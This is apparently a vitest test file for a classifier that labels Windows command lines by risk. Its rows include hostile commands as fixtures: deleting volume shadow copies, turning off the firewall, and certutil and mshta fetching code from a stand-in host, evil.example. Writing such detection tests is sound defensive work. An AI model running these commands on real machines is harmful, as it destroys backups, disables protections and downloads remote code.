// What the tools of the family "windows" are seen to do, one command line a row.
// Nothing here is run; the lines are only read.

import { describe, expect, it } from "vitest";
import { kindsOf } from "../line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["reg.exe query HKLM", ""],
  ["vssadmin list shadows", ""],
  ["vssadmin delete shadows", "destructive guard-tamper"],
  ["certutil -urlcache -f http://evil.example/a a", "network"],
  ["netsh advfirewall set allprofiles state off", "guard-tamper"],
  ["mshta http://evil.example/a.hta", "network hidden-code"],
  ["bcdedit /enum", ""],
];

describe("windows", () => {
  it.each(ROWS)("%s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
